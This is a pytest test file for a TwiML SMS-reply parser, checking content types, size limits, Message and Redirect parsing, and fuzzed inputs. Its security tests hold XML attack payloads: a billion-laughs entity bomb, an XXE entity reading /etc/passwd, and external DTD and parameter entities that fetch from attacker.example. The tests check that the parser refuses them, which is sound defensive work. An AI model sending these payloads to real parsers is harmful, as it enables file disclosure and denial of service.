from __future__ import annotations

import pytest
from defusedxml import DTDForbidden
from hypothesis import given, settings
from hypothesis import strategies as st

from herald.domain.twiml import (
    MAX_BYTES,
    NO_REPLY,
    DocumentParseFailure,
    InvalidContentType,
    Redirect,
    ReplyMessage,
    ResponseTooLarge,
    Twiml,
    TwimlError,
    parse_reply,
)

BASE = "https://app.example.com/sms/inbound?x=1"
XML = "text/xml"


def parse(body: str | bytes, content_type: str | None = XML, base_url: str = BASE) -> Twiml:
    data = body.encode() if isinstance(body, str) else body
    return parse_reply(content_type, data, base_url=base_url)


def fails(code: int, body: str | bytes, content_type: str | None = XML) -> TwimlError:
    with pytest.raises(TwimlError) as caught:
        parse(body, content_type)
    assert caught.value.code == code
    return caught.value


def response(inner: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><Response>{inner}</Response>'


# ---- content types and empty answers ---------------------------------------------------


@pytest.mark.parametrize(
    "content_type",
    ["text/xml", "application/xml", "text/html", "TEXT/XML; charset=utf-8", " application/xml ;"],
)
def test_xml_types_are_twiml(content_type: str) -> None:
    twiml = parse(response("<Message>Hi</Message>"), content_type)
    assert twiml == Twiml(messages=(ReplyMessage(body="Hi"),))


def test_text_plain_is_one_reply() -> None:
    assert parse("  Thanks, see you soon!\n", "text/plain; charset=UTF-8") == Twiml(
        messages=(ReplyMessage(body="Thanks, see you soon!"),)
    )
    assert parse("<Response/>", "Text/Plain").messages[0].body == "<Response/>"
    assert parse("\ufeffhé", "text/plain").messages == (ReplyMessage(body="hé"),)


def test_text_plain_of_only_unicode_spaces_is_no_reply() -> None:
    assert parse("\u00a0\u3000", "text/plain") is NO_REPLY


def test_text_plain_must_be_utf8() -> None:
    error = fails(12100, b"caf\xe9", "text/plain")
    assert error.message == "Document parse failure" and "UTF-8" in error.detail


@pytest.mark.parametrize("body", [b"", b"   ", b"\r\n\t "])
@pytest.mark.parametrize("content_type", [XML, "text/plain", "application/json", None])
def test_an_empty_body_is_no_reply_whatever_the_type(body: bytes, content_type: str | None) -> None:
    assert parse(body, content_type) == Twiml()


def test_an_empty_response_is_no_reply() -> None:
    assert parse("<Response/>") == Twiml()
    assert parse(response("  \n  ")) == Twiml()


@pytest.mark.parametrize("content_type", ["application/json", "image/png", "text", "", None])
def test_other_content_types_are_12300(content_type: str | None) -> None:
    error = fails(12300, response("<Message>Hi</Message>"), content_type)
    assert error.message == "Invalid Content-Type"
    assert isinstance(error, InvalidContentType)


def test_a_body_over_64_kib_is_11750() -> None:
    padding = " " * (MAX_BYTES - len(response("<Message>Hi</Message>")))
    assert parse(response(f"<Message>Hi</Message>{padding}")).messages
    error = fails(11750, response(f"<Message>Hi</Message>{padding} "))
    assert error.message == "TwiML response body too large"
    assert isinstance(error, ResponseTooLarge)
    fails(11750, b" " * (MAX_BYTES + 1), None)


# ---- parse failures --------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "Hello there",
        "<Response><Message>Hi</Message>",
        "<Response></Response><Response></Response>",
        "<Message>Hi</Message>",
        "<response/>",
        '<Response xmlns="urn:x"/>',
        ' <?xml version="1.0"?><Response/>',
        '\n<?xml version="1.0"?><Response/>',
        '<?xml version="1.0" encoding="bogus"?><Response/>',
        '<?xml version="1.0" encoding="base64"?><Response/>',
        '<?xml version="1.0" encoding="shift_jis"?><Response/>',
        "<!DOCTYPE html><html><body>Hi</body></html>",
        "<Response><Redirect/></Response>",
        "<Response><Redirect>   </Redirect></Response>",
    ],
)
def test_document_parse_failures(body: str) -> None:
    error = fails(12100, body)
    assert error.message == "Document parse failure"
    assert isinstance(error, DocumentParseFailure) and error.detail
    assert str(error) == f"Document parse failure: {error.detail}"


def test_garbage_bytes_are_12100() -> None:
    fails(12100, bytes(range(256)))
    fails(12100, b"\xff\xfe\x00\x00\x80\x81")
    fails(12100, b"<Response><Message>caf\xe9</Message></Response>")


def test_a_declared_single_byte_encoding_is_honoured() -> None:
    body = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>'
        + b"<Response><Message>caf\xe9</Message></Response>"
    )
    assert parse(body).messages == (ReplyMessage(body="café"),)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Response><Message>&lol4;</Message></Response>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Response><Message>&xxe;</Message></Response>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Response SYSTEM "http://attacker.example/evil.dtd">
<Response><Message>Hi</Message></Response>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>
<Response/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(body: str) -> None:
    error = fails(12100, body)
    assert isinstance(error.__cause__, DTDForbidden)


def test_an_undeclared_entity_is_a_parse_failure() -> None:
    fails(12100, response("<Message>&nbsp;</Message>"))


# ---- Message ---------------------------------------------------------------------------


def test_message_attributes() -> None:
    twiml = parse(
        response(
            '<Message to="+15558675310" from="+15017122661" action="/status" method="get">'
            "  Hello &amp; welcome  </Message>"
        )
    )
    assert twiml == Twiml(
        messages=(
            ReplyMessage(
                body="Hello & welcome",
                to="+15558675310",
                from_="+15017122661",
                action="https://app.example.com/status",
                method="GET",
            ),
        )
    )


def test_message_defaults() -> None:
    (message,) = parse(response('<Message to=" " from="">Hi</Message>')).messages
    assert (message.to, message.from_, message.action, message.method) == (None, None, None, "POST")
    assert message.media == ()


def test_status_callback_is_an_alias_and_action_wins() -> None:
    (alias,) = parse(
        response('<Message statusCallback="https://cb.example/s">Hi</Message>')
    ).messages
    assert alias.action == "https://cb.example/s"
    (both,) = parse(
        response('<Message statusCallback="https://cb.example/s" action="a">Hi</Message>')
    ).messages
    assert both.action == "https://app.example.com/sms/a"


@pytest.mark.parametrize("action", ["javascript:alert(1)", "ftp://x.example/f", "http://[::1"])
def test_an_action_that_is_not_http_is_dropped_with_14105(action: str) -> None:
    twiml = parse(response(f'<Message action="{action}">Hi</Message>'))
    assert twiml.messages[0].action is None and twiml.warnings == (14105,)


def test_an_invalid_method_is_a_schema_warning_and_post() -> None:
    twiml = parse(response('<Message method="PUT">Hi</Message>'))
    assert twiml.messages[0].method == "POST" and twiml.warnings == (12200,)


def test_body_and_media() -> None:
    twiml = parse(
        response(
            "<Message><Body> Look at this </Body>"
            "<Media> https://m.example/1.jpg </Media><Media>https://m.example/2.png</Media>"
            "<Media>  </Media></Message>"
        )
    )
    assert twiml == Twiml(
        messages=(
            ReplyMessage(
                body="Look at this", media=("https://m.example/1.jpg", "https://m.example/2.png")
            ),
        )
    )


def test_media_only_and_cdata() -> None:
    twiml = parse(response("<Message><Media>https://m.example/1.jpg</Media></Message>"))
    assert twiml.messages == (ReplyMessage(body="", media=("https://m.example/1.jpg",)),)
    twiml = parse(response("<Message><![CDATA[ 1 < 2 & 3 ]]></Message>"))
    assert twiml.messages == (ReplyMessage(body="1 < 2 & 3"),)


def test_more_than_ten_media_keeps_ten_with_12200() -> None:
    media = "".join(f"<Media>https://m.example/{i}</Media>" for i in range(12))
    twiml = parse(response(f"<Message>{media}</Message>"))
    assert twiml.messages[0].media == tuple(f"https://m.example/{i}" for i in range(10))
    assert twiml.warnings == (12200,)


def test_unknown_children_and_a_second_body_are_schema_warnings() -> None:
    twiml = parse(response("<Message><Body>one</Body><Body>two</Body><Foo/></Message>"))
    assert twiml.messages == (ReplyMessage(body="one"),) and twiml.warnings == (12200,)


@pytest.mark.parametrize(
    "message", ["<Message/>", "<Message>  </Message>", "<Message><Body/><Media/></Message>"]
)
def test_a_message_without_body_or_media_is_skipped_with_14103(message: str) -> None:
    twiml = parse(response(f"{message}<Message>kept</Message>"))
    assert twiml.messages == (ReplyMessage(body="kept"),) and twiml.warnings == (14103,)


def test_more_than_ten_messages_keeps_ten_with_14109() -> None:
    twiml = parse(response("".join(f"<Message>m{i}</Message>" for i in range(13))))
    assert [m.body for m in twiml.messages] == [f"m{i}" for i in range(10)]
    assert twiml.warnings == (14109,)


def test_unknown_verbs_are_ignored_with_12200() -> None:
    twiml = parse(response("<Say>Hello</Say><Message>Hi</Message><Play>x</Play>"))
    assert twiml.messages == (ReplyMessage(body="Hi"),) and twiml.warnings == (12200,)


def test_warnings_are_distinct_in_first_seen_order() -> None:
    twiml = parse(response('<Message/><Say/><Message method="x">a</Message><Message/>'))
    assert twiml.warnings == (14103, 12200)


# ---- Redirect --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "url"),
    [
        ("next", "https://app.example.com/sms/next"),
        ("/flows/2?step=3", "https://app.example.com/flows/2?step=3"),
        ("../up", "https://app.example.com/up"),
        ("//other.example/x", "https://other.example/x"),
        (" http://other.example/y ", "http://other.example/y"),
    ],
)
def test_redirect_resolves_against_the_document_url(target: str, url: str) -> None:
    twiml = parse(response(f"<Redirect>{target}</Redirect>"))
    assert twiml == Twiml(redirect=Redirect(url=url, method="POST"))


def test_redirect_method_and_what_follows_is_ignored() -> None:
    twiml = parse(
        response(
            "<Message>before</Message>"
            '<Redirect method="get">/more</Redirect>'
            "<Message>after</Message><Say>ignored</Say><Redirect>/again</Redirect>"
        )
    )
    assert twiml == Twiml(
        messages=(ReplyMessage(body="before"),),
        redirect=Redirect(url="https://app.example.com/more", method="GET"),
    )


def test_redirect_with_an_invalid_method_warns() -> None:
    twiml = parse(response('<Redirect method="DELETE">/x</Redirect>'))
    assert twiml.redirect == Redirect(url="https://app.example.com/x")
    assert twiml.warnings == (12200,)


@pytest.mark.parametrize("target", ["mailto:a@b.example", "http://[::1/x", "http:///nohost"])
def test_a_redirect_that_is_not_http_is_12100(target: str) -> None:
    fails(12100, response(f"<Redirect>{target}</Redirect>"))


def test_a_relative_redirect_needs_an_absolute_base() -> None:
    with pytest.raises(DocumentParseFailure):
        parse(response("<Redirect>/next</Redirect>"), base_url="")


# ---- anything in, a Twiml or a TwimlError out ------------------------------------------

CONTENT_TYPES = st.one_of(
    st.none(),
    st.sampled_from(["text/xml", "application/xml", "text/html", "text/plain", "image/gif"]),
    st.text(max_size=30),
)
FRAGMENTS = st.sampled_from(
    [
        "<Response>",
        "</Response>",
        "<Message",
        ">",
        "</Message>",
        "<Body>",
        "</Body>",
        "<Media>",
        "</Media>",
        "<Redirect",
        "</Redirect>",
        ' method="get"',
        ' action="',
        '"',
        "http://x/",
        "/rel",
        "[::1",
        "&amp;",
        "&lol;",
        "<!DOCTYPE r [<!ENTITY lol 'x'>]>",
        '<?xml version="1.0" encoding="utf-16"?>',
        " ",
        "hi",
        "\xe9",
    ]
)


@settings(max_examples=400, deadline=None)
@given(
    content_type=CONTENT_TYPES,
    body=st.one_of(
        st.binary(max_size=300),
        st.lists(FRAGMENTS, max_size=30).map(lambda parts: "".join(parts).encode()),
    ),
    base_url=st.one_of(st.just(BASE), st.text(max_size=20)),
)
def test_parse_reply_returns_twiml_or_raises_twiml_error(
    content_type: str | None, body: bytes, base_url: str
) -> None:
    try:
        twiml = parse_reply(content_type, body, base_url=base_url)
    except TwimlError as error:
        assert error.code in (12100, 12300, 11750)
        return
    assert isinstance(twiml, Twiml)
    assert len(twiml.messages) <= 10 and all(len(m.media) <= 10 for m in twiml.messages)
    assert all(m.body or m.media for m in twiml.messages)
